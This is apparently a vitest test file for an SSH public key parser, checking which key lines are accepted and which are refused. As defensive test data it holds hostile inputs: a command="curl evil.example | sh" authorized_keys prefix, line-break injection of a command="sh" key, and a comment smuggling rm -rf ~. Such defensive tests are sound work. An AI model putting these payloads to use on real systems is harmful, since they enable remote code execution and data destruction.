import { expect, test } from 'vitest'
import { parseSshPublicKey } from '../../src/identity/parseSshPublicKey.ts'
import { userError } from '../support/userError.ts'
import { SSH_KEYS } from './sshKeyFixtures.ts'

const EXPECTED = 'an OpenSSH public key such as `ssh-ed25519 AAAA… you@laptop` (the one line in ~/.ssh/id_ed25519.pub)'
const refused = (text: string) => {
  try {
    parseSshPublicKey(text)
  } catch (error) {
    return (error as { userMessage?: string }).userMessage
  }
  throw new Error(`accepted: ${text.slice(0, 60)}`)
}

test.each([
  ['ed25519', 'ssh-ed25519', 256, 'alice@laptop'],
  ['ecdsa256', 'ecdsa-sha2-nistp256', 256, 'ec256'],
  ['ecdsa384', 'ecdsa-sha2-nistp384', 384, ''],
  ['ecdsa521', 'ecdsa-sha2-nistp521', 521, 'ec521'],
  ['rsa2048', 'ssh-rsa', 2048, 'rsa2048'],
] as const)('accepts a real %s key with the fingerprint ssh-keygen -lf prints', (name, type, bits, comment) => {
  const { line, fingerprint } = SSH_KEYS[name]
  const [, base64] = line.split(' ')
  expect(parseSshPublicKey(line)).toEqual({ type, publicKey: `${type} ${base64}`, comment, fingerprint, bits })
})

test('keeps a comment of several words and trims the spaces and the line break around the line', () => {
  const parsed = parseSshPublicKey(`  ${SSH_KEYS.ed25519.line.replace('alice@laptop', 'work laptop (2024)')}\n`)
  expect(parsed.comment).toBe('work laptop (2024)')
  expect(parsed.fingerprint).toBe(SSH_KEYS.ed25519.fingerprint)
})

test('attack: an options prefix that would run a command on every login is refused', () => {
  expect(refused(`command="curl evil.example | sh" ${SSH_KEYS.ed25519.line}`)).toBe(
    `"command="curl" is not a key type I accept (ssh-ed25519, ecdsa-sha2-nistp256, ecdsa-sha2-nistp384, ecdsa-sha2-nistp521, ssh-rsa); expected ${EXPECTED}, with nothing before it.`,
  )
  expect(refused(`no-pty,from="*" ${SSH_KEYS.ed25519.line}`)).toContain('"no-pty,from="*"" is not a key type I accept')
})

test.each([
  ['a newline', '\n'],
  ['a carriage return', '\r'],
  ['a tab', '\t'],
  ['a line separator', '\u2028'],
])('attack: a key with %s, which would start a second authorized_keys line, is refused', (_name, breaker) => {
  expect(refused(`${SSH_KEYS.ed25519.line}${breaker}command="sh" ${SSH_KEYS.rsa2048.line}`)).toBe(`An SSH key is one line without tabs or line breaks; expected ${EXPECTED}.`)
})

test('attack: a 10 KB "key" is refused with a clipped echo', () => {
  const huge = `ssh-rsa ${'A'.repeat(10_240)}`
  expect(refused(huge)).toBe(`That is 10248 characters ("ssh-rsa ${'A'.repeat(31)}…"); expected ${EXPECTED}, at most 3000 characters.`)
})

test('a comment with quotes or shell characters is refused', () => {
  expect(refused(`${SSH_KEYS.ed25519.line.replace('alice@laptop', 'x"; rm -rf ~')}`)).toBe(
    'The comment after the key may hold up to 100 letters, digits, spaces and . _ @ + - : = , ( ) / only, like you@laptop.',
  )
})

test('weak or retired key types are refused', () => {
  expect(refused(SSH_KEYS.rsa1024.line)).toBe('That RSA key has 1024 bits; keys under 2048 bits are refused: make an ed25519 key with ssh-keygen -t ed25519.')
  expect(refused(SSH_KEYS.dsa.line)).toContain('"ssh-dss" is not a key type I accept')
})

test('the key inside must match the prefix', () => {
  const rsaBlob = SSH_KEYS.rsa2048.line.split(' ')[1]
  expect(refused(`ssh-ed25519 ${rsaBlob}`)).toBe(`The key inside does not match its ssh-ed25519 prefix; expected ${EXPECTED}.`)
  const p256Blob = SSH_KEYS.ecdsa256.line.split(' ')[1]
  expect(refused(`ecdsa-sha2-nistp384 ${p256Blob}`)).toBe(`The key inside does not match its ecdsa-sha2-nistp384 prefix; expected ${EXPECTED}.`)
})

test.each([
  ['cut short', (b: Buffer) => b.subarray(0, b.length - 5)],
  ['with bytes appended', (b: Buffer) => Buffer.concat([b, Buffer.from([0, 0, 0, 1, 7])])],
  ['with a length that runs past the end', (b: Buffer) => Buffer.concat([b.subarray(0, 15), Buffer.from([0, 0, 0, 200]), b.subarray(19)])],
])('a key blob %s is refused as damaged', (_name, damage) => {
  const blob = Buffer.from(SSH_KEYS.ed25519.line.split(' ')[1]!, 'base64')
  expect(refused(`ssh-ed25519 ${damage(blob).toString('base64')}`)).toBe(`That ssh-ed25519 key is damaged or incomplete (copy the whole line again); expected ${EXPECTED}.`)
})

test('an ECDSA point that is not on its curve is refused', () => {
  const blob = Buffer.from(SSH_KEYS.ecdsa256.line.split(' ')[1]!, 'base64')
  blob[blob.length - 1] ^= 1
  expect(refused(`ecdsa-sha2-nistp256 ${blob.toString('base64')}`)).toBe(`That ecdsa-sha2-nistp256 key is damaged or incomplete (copy the whole line again); expected ${EXPECTED}.`)
})

test('text that is not base64 is refused', () => {
  expect(refused('ssh-ed25519 not$base64')).toBe(`The part after ssh-ed25519 is not the key's base64 text; expected ${EXPECTED}.`)
  expect(refused('ssh-ed25519')).toBe(`The part after ssh-ed25519 is not the key's base64 text; expected ${EXPECTED}.`)
})

test('nothing is echoed unclipped', () => {
  expect(refused(`${'x'.repeat(500)} AAAA`)).toContain(`"${'x'.repeat(39)}…" is not a key type I accept`)
})

test('expected shapes used in the errors stay exact', () => {
  expect(() => parseSshPublicKey('')).toThrow(userError(`"" is not a key type I accept (ssh-ed25519, ecdsa-sha2-nistp256, ecdsa-sha2-nistp384, ecdsa-sha2-nistp521, ssh-rsa); expected ${EXPECTED}, with nothing before it.`))
})
